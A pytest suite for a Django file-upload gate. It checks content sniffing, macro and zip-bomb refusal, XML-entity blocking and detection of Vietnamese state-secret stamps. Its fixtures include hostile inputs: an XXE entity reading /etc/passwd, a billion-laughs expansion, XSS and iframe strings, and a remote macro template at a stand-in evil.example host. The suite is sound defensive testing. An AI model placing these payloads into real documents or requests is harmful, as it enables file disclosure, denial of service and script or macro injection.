"""The upload gate: content sniffing, bombs, macros, XML entities and the state-secret stamp gate.

Every fixture file is built in memory here: docx with python-docx (text boxes injected as raw XML), xlsx with
openpyxl, PDFs written by hand with a ToUnicode map so that they carry Vietnamese text (NFC or NFD).
"""

import hashlib
import io
import struct
import tracemalloc
import unicodedata
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from docx.oxml import parse_xml
from openpyxl import Workbook

from core import uploads
from core.uploads import UploadInfo, UploadKind, UploadRejected, check_upload, find_secrecy_stamp

ALL = tuple(UploadKind.values)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

PROSE = [
    "Người dùng phải đổi mật khẩu sau 90 ngày.",
    "Mật khẩu: 123456",
    "Thông tin thuộc bí mật nhà nước không được đưa lên hệ thống.",
    "BẢO VỆ BÍ MẬT NHÀ NƯỚC",
    "Tài liệu không mật",
    "Độ mật",
    "Độ mật:",
    "mật ong",
    "Hội thảo về bảo mật thông tin",
    "Tối mật là độ mật cao hơn mật.",
    "TOI MAT",
]


# --- Builders ---------------------------------------------------------------------------------------------


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def check(name: str, data: bytes, *, allowed=ALL, attested: bool = True, **kwargs) -> UploadInfo:
    return check_upload(upload(name, data), allowed=allowed, attested_not_secret=attested, user=None, **kwargs)


def refusal(name: str, data: bytes, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check(name, data, **kwargs)
    return caught.value


def code_of(name: str, data: bytes, **kwargs) -> str:
    return refusal(name, data, **kwargs).code


def textbox_run(text: str):
    return parse_xml(
        f'<w:r xmlns:w="{W_NS}" xmlns:v="urn:schemas-microsoft-com:vml"><w:pict>'
        '<v:shape style="width:120pt;height:40pt"><v:textbox><w:txbxContent>'
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
        "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )


def make_docx(
    body=("Hiệp định hợp tác giữa tỉnh Quảng Nam và tỉnh Gyeonggi",),
    cells=(),
    header=None,
    footer=None,
    textbox=None,
    runs=None,
) -> bytes:
    document = Document()
    for text in body:
        document.add_paragraph(text)
    if cells:
        table = document.add_table(rows=1, cols=len(cells))
        for cell, text in zip(table.rows[0].cells, cells, strict=True):
            cell.text = text
    section = document.sections[0]
    if header is not None:
        section.header.paragraphs[0].text = header
    if footer is not None:
        section.footer.paragraphs[0].text = footer
    if textbox is not None:
        document.add_paragraph("Nội dung chính")._p.append(textbox_run(textbox))
    if runs:
        paragraph = document.add_paragraph()
        for text in runs:
            paragraph.add_run(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def make_xlsx(cells=None, header=None, title=None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    if title:
        sheet.title = title
    for ref, value in (
        cells or {"A1": "Tên đối tác", "B1": "Quốc gia", "A2": "Tỉnh Gyeonggi", "B2": "Hàn Quốc"}
    ).items():
        sheet[ref] = value
    if header:
        sheet.oddHeader.center.text = header
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, replace=None, add=None, remove=(), comment=b"") -> bytes:
    """A copy of the archive with members replaced, added or removed."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in remove:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in add.items():
            target.writestr(name, content)
        target.comment = comment
    return out.getvalue()


def content_types(data: bytes, old: str, new: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    assert old in types
    return rewrite_zip(data, replace={"[Content_Types].xml": types.replace(old, new).encode()})


def make_pdf(lines=("Biên bản thỏa thuận hợp tác",), *, nfd=False, catalog_extra="", tail=b"") -> bytes:
    """A one-page PDF whose text is extracted as ``lines``; non-ASCII letters go through a ToUnicode map,
    decomposed (NFD) when ``nfd`` is set."""
    codes: dict[str, int] = {}
    shown = []
    for line in lines:
        encoded = bytearray()
        for char in unicodedata.normalize("NFC", line):
            if 32 <= ord(char) < 127:
                encoded.append(ord(char))
            else:
                encoded.append(codes.setdefault(char, 0x80 + len(codes)))
        shown.append(encoded.hex())
    content = "BT /F1 12 Tf 14 TL 72 760 Td " + " ".join(f"<{hexa}> Tj T*" for hexa in shown) + " ET"
    bfchar = "".join(
        f"<{code:02X}> <{(unicodedata.normalize('NFD', char) if nfd else char).encode('utf-16-be').hex().upper()}>\n"
        for char, code in codes.items()
    )
    cmap = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        "/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        "1 begincodespacerange <00> <FF> endcodespacerange\n"
        "1 beginbfrange <20> <7E> <0020> endbfrange\n"
        f"{len(codes)} beginbfchar\n{bfchar}endbfchar\n"
        "endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        "/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        f"<< /Length {len(cmap)} >>\nstream\n{cmap}\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out) + tail


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def make_png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    raw = b"".join(b"\x00" + b"\x00\x00\x00" * width for _ in range(min(height, 4)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + extra
        + png_chunk(b"IDAT", zlib.compress(raw))
        + png_chunk(b"IEND", b"")
    )


def make_jpeg(width: int = 16, height: int = 16) -> bytes:
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof = struct.pack(">BHHB", 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    sos = b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"

    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    return b"\xff\xd8" + segment(0xE0, app0) + segment(0xC0, sof) + segment(0xDA, sos) + b"\x12\x34" * 8 + b"\xff\xd9"


# --- find_secrecy_stamp -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "stamp"),
    [
        ("MẬT", "MẬT"),
        ("TỐI MẬT", "TỐI MẬT"),
        ("TUYỆT MẬT", "TUYỆT MẬT"),
        ("mật", "MẬT"),
        ("Tối mật", "TỐI MẬT"),
        ("TỐI-MẬT", "TỐI MẬT"),
        ("  ** MẬT **  ", "MẬT"),
        ("┌──────────┐\n│ TUYỆT MẬT │\n└──────────┘", "TUYỆT MẬT"),
        ("[TỐI MẬT]", "TỐI MẬT"),
        ("ĐỘ MẬT: TỐI MẬT", "TỐI MẬT"),
        ("Độ mật: Mật", "MẬT"),
        ("Mức độ mật: Tuyệt mật", "TUYỆT MẬT"),
        ("M Ậ T", "MẬT"),
        ("T U Y Ệ T   M Ậ T", "TUYỆT MẬT"),
        ("M\u200bẬT", "MẬT"),
        ("ＭẬＴ", "MẬT"),
        ("MẬT - Số 12/BC-UBND", "MẬT"),
        ("TỐI MẬT (Bản số 03)", "TỐI MẬT"),
        ("Số: 05/2024/QĐ-UBND    MẬT", "MẬT"),
        ("HỎA TỐC - MẬT", "MẬT"),
        ("HOẢ TỐC, TỐI MẬT", "TỐI MẬT"),
        ("Báo cáo tình hình\nMẬT\nNội dung", "MẬT"),
        ("TỐI\nMẬT", "TỐI MẬT"),
        ("MẬT MẬT", "MẬT"),
        ("MMẬẬTT", "MẬT"),  # a mark drawn twice to look bold, as PDF text extraction gives it
        ("«Tuyệt mật!»", "TUYỆT MẬT"),
    ],
)
def test_stamp_is_found(text, stamp):
    assert find_secrecy_stamp(text) == stamp


@pytest.mark.parametrize("form", ["NFD", "NFKD"])
@pytest.mark.parametrize("stamp", ["MẬT", "TỐI MẬT", "TUYỆT MẬT", "Độ mật: tối mật"])
def test_stamp_is_found_decomposed(form, stamp):
    decomposed = unicodedata.normalize(form, stamp)
    assert decomposed != unicodedata.normalize("NFC", stamp)
    assert find_secrecy_stamp(decomposed) in {"MẬT", "TỐI MẬT", "TUYỆT MẬT"}


def test_stamp_with_circumflex_then_dot_below_is_found():
    assert find_secrecy_stamp("M\u00c2\u0323T") == "MẬT"  # Â + combining dot below, as cp1258 writes it


@pytest.mark.parametrize("text", [*PROSE, "", "   ", "MẬT 12 người", "Mật mã 2024", "MẬT KHẨU", "Hồ sơ mật"])
def test_prose_is_not_a_stamp(text):
    assert find_secrecy_stamp(text) is None


def test_long_text_mentioning_the_marks_is_not_a_stamp():
    text = "Các độ mật gồm: tuyệt mật, tối mật và mật (Điều 8 Luật Bảo vệ bí mật nhà nước). " * 5
    assert find_secrecy_stamp(text) is None


# --- The gate: attestation, names, sizes -------------------------------------------------------------------


def test_docx_is_accepted_and_described():
    data = make_docx()
    file = upload("C:\\fakepath\\Hiệp định.docx", data, content_type="text/html")
    info = check_upload(file, allowed=["docx"], attested_not_secret=True, user=None)
    assert info == UploadInfo(
        kind=UploadKind.DOCX,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
        name="Hiệp định.docx",
        text_excerpt_checked=True,
    )
    assert f"imports/{info.kind}" == "imports/docx"
    assert file.read() == data  # rewound for the caller


def test_not_attested_is_refused_first():
    assert code_of("a.docm", b"", attested=False) == "not_attested"
    assert code_of("a.docx", make_docx(), attested=False) == "not_attested"


def test_refusal_is_a_validation_error_with_a_message():
    error = refusal("a.txt", "Báo cáo\nTỐI MẬT\n".encode())
    assert isinstance(error, ValidationError)
    assert error.code == "state_secret_stamp"
    assert error.params == {"stamp": "TỐI MẬT"}
    assert "TỐI MẬT" in error.messages[0]


def test_unknown_allowed_kind_is_a_programming_error():
    with pytest.raises(ValueError, match="exe"):
        check("a.docx", make_docx(), allowed=("docx", "exe"))


@pytest.mark.parametrize("name", ["a.exe", "a", "a.doc", "a.html", "a.svg", "a.pdf.exe"])
def test_unaccepted_extension_is_bad_type(name):
    assert code_of(name, b"hello") == "bad_type"


def test_extension_outside_allowed_is_bad_type():
    assert code_of("a.docx", make_docx(), allowed=("xlsx", "csv")) == "bad_type"


@pytest.mark.parametrize("name", ["a.docm", "a.xlsm", "a.DOTM", "a.xlsb", "a.docm."])
def test_macro_extension_is_refused(name):
    assert code_of(name, make_docx()) == "macro"


def test_empty_file_is_refused():
    assert code_of("a.csv", b"") == "empty"


def test_too_large_by_argument_and_by_setting(settings):
    assert code_of("a.txt", b"x" * 101, max_bytes=100) == "too_large"
    assert check("a.txt", b"x" * 100, max_bytes=100).size == 100
    settings.UPLOAD_MAX_BYTES = 1000
    assert code_of("a.txt", b"x" * 1001) == "too_large"


def test_too_large_is_counted_not_taken_from_the_declared_size():
    file = ContentFile(b"x" * 200, name="a.txt")
    file.size = 10
    with pytest.raises(UploadRejected) as caught:
        check_upload(file, allowed=["txt"], attested_not_secret=True, user=None, max_bytes=100)
    assert caught.value.code == "too_large"


# --- Content sniffing ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "builder"),
    [
        ("a.xlsx", make_docx),
        ("a.docx", make_xlsx),
        ("a.pdf", make_docx),
        ("a.csv", make_pdf),
        ("a.txt", make_png),
        ("a.jpg", make_png),
        ("a.png", make_jpeg),
    ],
)
def test_content_of_another_kind_is_an_extension_mismatch(name, builder):
    assert code_of(name, builder()) == "extension_mismatch"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", b"Just some text, no PDF here"),
        ("a.docx", b"this is not a zip archive"),
        ("a.png", b"GIF89a\x01\x00\x01\x00"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),  # legacy .doc / encrypted Office
        ("a.xlsx", b"MZ\x90\x00\x03\x00\x00\x00"),
        ("a.txt", b"MZ\x90\x00\x03\x00\x00\x00"),
    ],
)
def test_wrong_magic_is_bad_type(name, data):
    assert code_of(name, data) == "bad_type"


def test_non_office_zip_named_docx_is_malformed():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert code_of("a.docx", buffer.getvalue()) == "malformed"


def test_other_office_package_named_docx_is_bad_type():
    data = content_types(
        make_docx(), DOCX_MAIN, "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    )
    assert code_of("a.docx", data) == "bad_type"


# --- Text: csv and txt --------------------------------------------------------------------------------------


def test_csv_utf8_with_bom_is_accepted():
    info = check("doi-tac.csv", "\ufeffTên,Quốc gia\nTỉnh Gyeonggi,Hàn Quốc\n".encode())
    assert info.kind == UploadKind.CSV
    assert info.text_excerpt_checked is True


def to_cp1258(text: str) -> bytes:
    """Windows-1258 has letters with circumflex, breve and horn precomposed, and tone marks combining."""
    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = []
    for char in unicodedata.normalize("NFC", text):
        decomposed = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(mark for mark in decomposed if mark not in tones))
        out.append(base + "".join(mark for mark in decomposed if mark in tones))
    return "".join(out).encode("cp1258")


def test_csv_in_cp1258_is_accepted():
    assert check("a.csv", to_cp1258("Tên;Tỉnh\nAn;Hà Nội\n")).kind == UploadKind.CSV


def test_txt_is_accepted():
    assert check("ghi-chu.txt", "\n".join(PROSE).encode()).kind == UploadKind.TXT


@pytest.mark.parametrize(
    "data",
    [
        b"a,b\x00,c\n",
        "Tên,Quốc gia\n".encode("utf-16"),
        bytes(range(1, 256)) * 20,
    ],
)
def test_binary_named_csv_is_bad_type(data):
    assert code_of("a.csv", data) == "bad_type"


@pytest.mark.parametrize(
    "text",
    [
        "<!DOCTYPE html><html><body>x</body></html>",
        "  <html><script>alert(1)</script>",
        "<script>alert(document.cookie)</script>,b\n",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "Tên,Ghi chú\nAn,<iframe src=//evil.example></iframe>\n",
        "\ufeff<?xml version='1.0'?><x/>",
    ],
)
def test_html_polyglot_text_is_bad_type(text):
    assert code_of("a.csv", text.encode()) == "bad_type"
    assert code_of("a.txt", text.encode()) == "bad_type"


def test_stamp_in_csv_cell_is_refused():
    error = refusal("a.csv", "Số,Độ mật,Tên\n1,TỐI MẬT,Hiệp định\n".encode())
    assert (error.code, error.params) == ("state_secret_stamp", {"stamp": "TỐI MẬT"})


def test_stamp_in_txt_line_nfd_is_refused():
    text = unicodedata.normalize("NFD", "UBND TỈNH QUẢNG NAM\nTUYỆT MẬT\nBáo cáo")
    error = refusal("a.txt", text.encode())
    assert (error.code, error.params) == ("state_secret_stamp", {"stamp": "TUYỆT MẬT"})


def test_stamp_in_cp1258_csv_is_refused():
    data = to_cp1258("Tên;Độ mật\nAn;MẬT\n")
    assert "\u0323".encode("cp1258") in data
    assert code_of("a.csv", data) == "state_secret_stamp"


def test_prose_in_csv_passes():
    text = "Tiêu đề,Ghi chú\n" + "\n".join(f'{index},"{line}"' for index, line in enumerate(PROSE))
    assert check("a.csv", text.encode()).kind == UploadKind.CSV


# --- docx ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "where",
    [
        {"body": ("Hiệp định", "MẬT")},
        {"cells": ("Số 12/BC", "TỐI MẬT")},
        {"header": "TUYỆT MẬT"},
        {"footer": "Độ mật: Mật"},
        {"textbox": "MẬT"},
        {"runs": ("TỐI ", "M", "Ậ", "T")},
        {"body": ("MẬT - Số 12/BC-UBND",)},
    ],
)
@pytest.mark.parametrize("form", ["NFC", "NFD"])
def test_stamp_in_docx_is_refused(where, form):
    normalized = {
        key: unicodedata.normalize(form, value)
        if isinstance(value, str)
        else [unicodedata.normalize(form, v) for v in value]
        for key, value in where.items()
    }
    error = refusal("a.docx", make_docx(**normalized))
    assert error.code == "state_secret_stamp"
    assert error.params["stamp"] in {"MẬT", "TỐI MẬT", "TUYỆT MẬT"}


def test_stamp_split_over_paragraphs_of_a_table_cell_is_refused():
    document = Document()
    cell = document.add_table(rows=1, cols=1).rows[0].cells[0]
    cell.text = "TỐI"
    cell.add_paragraph("MẬT")
    buffer = io.BytesIO()
    document.save(buffer)
    assert code_of("a.docx", buffer.getvalue()) == "state_secret_stamp"


@pytest.mark.parametrize(
    ("part", "xml"),
    [
        pytest.param(
            "word/charts/chart1.xml",
            '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><c:chart><c:title><c:tx><c:rich>'
            "<a:p><a:r><a:t>TỐI MẬT</a:t></a:r></a:p></c:rich></c:tx></c:title></c:chart></c:chartSpace>",
            id="chart title",
        ),
        pytest.param(
            "word/footnotes.xml",
            f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p><w:r><w:t>TUYỆT MẬT</w:t></w:r></w:p>'
            "</w:footnote></w:footnotes>",
            id="footnote",
        ),
    ],
)
def test_stamp_in_docx_part_is_refused(part, xml):
    assert code_of("a.docx", rewrite_zip(make_docx(), add={part: xml.encode()})) == "state_secret_stamp"


def test_stamp_on_its_own_line_inside_a_long_paragraph_is_refused():
    document = Document()
    paragraph = document.add_paragraph("Lời mở đầu của báo cáo. " * 300)
    paragraph.add_run().add_break()
    paragraph.add_run("TỐI MẬT")
    paragraph.add_run().add_break()
    paragraph.add_run("Nội dung chi tiết. " * 300)
    buffer = io.BytesIO()
    document.save(buffer)
    error = refusal("a.docx", buffer.getvalue())
    assert (error.code, error.params) == ("state_secret_stamp", {"stamp": "TỐI MẬT"})


def test_stamp_in_paragraph_holding_a_text_box_is_refused():
    document = Document()
    document.add_paragraph("MẬT")._p.append(textbox_run("khẩu"))
    buffer = io.BytesIO()
    document.save(buffer)
    assert code_of("a.docx", buffer.getvalue()) == "state_secret_stamp"


def test_docx_prose_everywhere_passes():
    data = make_docx(body=PROSE, cells=PROSE[:3], header=PROSE[3], footer=PROSE[4], textbox=PROSE[0])
    info = check("a.docx", data)
    assert (info.kind, info.text_excerpt_checked) == (UploadKind.DOCX, True)


def test_docx_with_docm_content_type_is_macro():
    assert code_of("a.docx", content_types(make_docx(), DOCX_MAIN, DOCM_MAIN)) == "macro"


@pytest.mark.parametrize("member", ["word/vbaProject.bin", "word/activeX/activeX1.bin", "word/embeddings/x.xlsm"])
def test_docx_with_macro_member_is_macro(member):
    assert code_of("a.docx", rewrite_zip(make_docx(), add={member: b"\xd0\xcf\x11\xe0 macro"})) == "macro"


def test_docx_with_remote_template_is_macro():
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    data = rewrite_zip(make_docx(), add={"word/_rels/settings.xml.rels": rels.encode()})
    assert code_of("a.docx", data) == "macro"


def _document_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("word/document.xml").decode()


def test_docx_with_external_entity_is_refused():
    data = make_docx(body=("XXE",))
    xml = _document_xml(data).replace("XXE", "&xxe;")
    doctype = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = xml.replace("<w:document", doctype + "<w:document", 1)
    assert code_of("a.docx", rewrite_zip(data, replace={"word/document.xml": xml.encode()})) == "xml_entities"


def test_docx_with_billion_laughs_is_refused():
    data = make_docx(body=("LOL",))
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
    )
    xml = _document_xml(data).replace("LOL", "&lol9;")
    xml = xml.replace("<w:document", f"<!DOCTYPE w:document [{entities}]><w:document", 1)
    assert code_of("a.docx", rewrite_zip(data, replace={"word/document.xml": xml.encode()})) == "xml_entities"


def test_dtd_in_content_types_is_refused():
    data = make_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace("<Types", '<!DOCTYPE Types [<!ENTITY e "x">]><Types', 1)
    assert code_of("a.docx", rewrite_zip(data, replace={"[Content_Types].xml": types.encode()})) == "xml_entities"


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[: len(data) // 2],
        lambda data: data[:-30],
        lambda data: rewrite_zip(data, replace={"word/document.xml": b"<w:document><w:body>"}),
        lambda data: rewrite_zip(data, remove=("word/document.xml",)),
        lambda data: rewrite_zip(data, remove=("[Content_Types].xml",)),
        lambda data: rewrite_zip(data, replace={"word/document.xml": f'<w:x xmlns:w="{W_NS}"/>'.encode()}),
    ],
)
def test_damaged_docx_is_malformed(damage):
    assert code_of("a.docx", damage(make_docx())) == "malformed"


def test_past_the_scanning_budget_parts_are_still_parsed_for_dtds(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_OOXML_SCAN_BYTES", 1)
    data = make_docx(body=PROSE)
    assert check("a.docx", data).kind == UploadKind.DOCX
    xml = _document_xml(data).replace("<w:document", '<!DOCTYPE w:document [<!ENTITY e "x">]><w:document', 1)
    assert code_of("a.docx", rewrite_zip(data, replace={"word/document.xml": xml.encode()})) == "xml_entities"


def test_lying_declared_size_is_refused():
    """A central directory that declares a smaller size than the member unpacks to is caught (CRC)."""
    data = bytearray(make_docx())
    name = b"word/document.xml"
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack("<H", data[central + 28 : central + 30])[0]
        if data[central + 46 : central + 46 + name_length] == name:
            data[central + 24 : central + 28] = struct.pack("<I", 50)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    assert central != -1
    assert code_of("a.docx", bytes(data)) == "malformed"


def test_docx_with_html_in_zip_comment_is_bad_type():
    data = rewrite_zip(make_docx(), comment=b"<html><script>alert(1)</script></html>")
    assert code_of("a.docx", data) == "bad_type"


# --- Zip bombs ----------------------------------------------------------------------------------------------


def test_zip_bomb_by_ratio_is_refused():
    data = rewrite_zip(make_docx(), add={"word/media/image1.png": b"\x00" * (5 * 1024 * 1024)})
    assert code_of("a.docx", data) == "zip_bomb"


def test_zip_bomb_by_unpacked_size_is_refused(settings):
    settings.UPLOAD_MAX_UNPACKED_BYTES = 1024 * 1024
    incompressible = hashlib.sha256(b"seed").digest() * 40_000  # 1.28 MB, ratio about 1
    data = rewrite_zip(make_docx(), add={"word/media/image1.png": bytes(incompressible)})
    assert code_of("a.docx", data) == "zip_bomb"


def test_zip_bomb_by_setting_ratio(settings):
    settings.UPLOAD_MAX_RATIO = 2
    text = ("Hiệp định hợp tác " * 40_000).encode()
    data = rewrite_zip(make_xlsx(), add={"xl/media/notes.txt": text})
    assert code_of("a.xlsx", data) == "zip_bomb"


def test_big_zip_bomb_is_refused_without_unpacking():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with zipfile.ZipFile(io.BytesIO(make_docx())) as source:
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info.filename))
        with archive.open("word/document2.xml", "w") as member:
            zeros = b"\x00" * (1024 * 1024)
            for _ in range(150):
                member.write(zeros)
    data = out.getvalue()
    tracemalloc.start()
    try:
        assert code_of("a.docx", data) == "zip_bomb"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 10 * 1024 * 1024


def test_too_many_members_is_refused(settings):
    many = {f"word/media/part{index}.bin": b"" for index in range(2001)}
    assert code_of("a.docx", rewrite_zip(make_docx(), add=many)) == "too_many_members"
    settings.UPLOAD_MAX_MEMBERS = 5
    assert code_of("a.xlsx", make_xlsx()) == "too_many_members"


# --- xlsx ---------------------------------------------------------------------------------------------------


def test_xlsx_is_accepted():
    info = check("doi-tac.xlsx", make_xlsx(), allowed=("xlsx", "csv"))
    assert (info.kind, info.text_excerpt_checked) == (UploadKind.XLSX, True)


@pytest.mark.parametrize("form", ["NFC", "NFD"])
@pytest.mark.parametrize(
    ("kwargs", "stamp"),
    [
        ({"cells": {"A1": "Tên", "C7": "MẬT"}}, "MẬT"),
        ({"cells": {"A1": "Độ mật: Tối mật"}}, "TỐI MẬT"),
        ({"header": "TUYỆT MẬT"}, "TUYỆT MẬT"),
        ({"title": "TỐI MẬT"}, "TỐI MẬT"),
    ],
)
def test_stamp_in_xlsx_is_refused(kwargs, stamp, form):
    kwargs = {
        key: {ref: unicodedata.normalize(form, text) for ref, text in value.items()}
        if isinstance(value, dict)
        else unicodedata.normalize(form, value)
        for key, value in kwargs.items()
    }
    error = refusal("a.xlsx", make_xlsx(**kwargs))
    assert (error.code, error.params) == ("state_secret_stamp", {"stamp": stamp})


def test_stamp_in_xlsx_header_with_formatting_codes_is_refused():
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = "Tên"
    sheet.oddHeader.left.text = "MẬT"
    sheet.oddHeader.left.font = "Times New Roman,Bold"
    sheet.oddHeader.left.size = 14
    sheet.oddFooter.right.text = "Trang &P"
    buffer = io.BytesIO()
    workbook.save(buffer)
    error = refusal("a.xlsx", buffer.getvalue())
    assert (error.code, error.params) == ("state_secret_stamp", {"stamp": "MẬT"})


def test_stamp_in_xlsx_shared_strings_is_refused():
    shared = (
        f'<sst xmlns="{S_NS}" count="2" uniqueCount="2"><si><t>Tên</t></si>'
        '<si><r><t xml:space="preserve">TỐI </t></r><r><rPr><b/></rPr><t>MẬT</t></r></si></sst>'
    )
    data = rewrite_zip(make_xlsx(), add={"xl/sharedStrings.xml": shared.encode()})
    assert code_of("a.xlsx", data) == "state_secret_stamp"


def test_stamp_in_xlsx_formula_result_is_refused():
    data = make_xlsx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = sheet.replace("</sheetData>", '<row r="9"><c r="A9" t="str"><f>"MẬT"</f><v>MẬT</v></c></row></sheetData>')
    assert code_of("a.xlsx", rewrite_zip(data, replace={"xl/worksheets/sheet1.xml": sheet.encode()})) == (
        "state_secret_stamp"
    )


def test_xlsx_prose_passes():
    cells = {f"A{row}": text for row, text in enumerate(PROSE, start=1)}
    assert check("a.xlsx", make_xlsx(cells=cells, header="Bảo mật thông tin")).kind == UploadKind.XLSX


def test_xlsm_renamed_xlsx_is_macro():
    assert code_of("a.xlsx", content_types(make_xlsx(), XLSX_MAIN, XLSM_MAIN)) == "macro"
    assert code_of("a.xlsx", rewrite_zip(make_xlsx(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})) == "macro"


def test_xlsx_with_entity_in_shared_strings_is_refused():
    shared = f'<!DOCTYPE sst [<!ENTITY a "MẬT">]><sst xmlns="{S_NS}"><si><t>&a;</t></si></sst>'
    data = rewrite_zip(make_xlsx(), add={"xl/sharedStrings.xml": shared.encode()})
    assert code_of("a.xlsx", data) == "xml_entities"


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[:200],
        lambda data: rewrite_zip(data, replace={"xl/worksheets/sheet1.xml": b"<worksheet><sheetData>"}),
        lambda data: rewrite_zip(data, replace={"xl/workbook.xml": b"not xml"}),
        lambda data: b"PK\x03\x04" + b"\x00" * 100,
    ],
)
def test_damaged_xlsx_is_malformed(damage):
    assert code_of("a.xlsx", damage(make_xlsx())) == "malformed"


# --- PDF ----------------------------------------------------------------------------------------------------


def test_pdf_is_accepted():
    info = check("bien-ban.pdf", make_pdf(PROSE), allowed=("pdf",))
    assert (info.kind, info.text_excerpt_checked) == (UploadKind.PDF, True)


@pytest.mark.parametrize("nfd", [False, True])
@pytest.mark.parametrize("stamp", ["MẬT", "TỐI MẬT", "TUYỆT MẬT"])
def test_stamp_in_pdf_is_refused(stamp, nfd):
    error = refusal("a.pdf", make_pdf(("UBND TỈNH QUẢNG NAM", stamp, "Số: 12/BC-UBND"), nfd=nfd))
    assert (error.code, error.params) == ("state_secret_stamp", {"stamp": stamp})


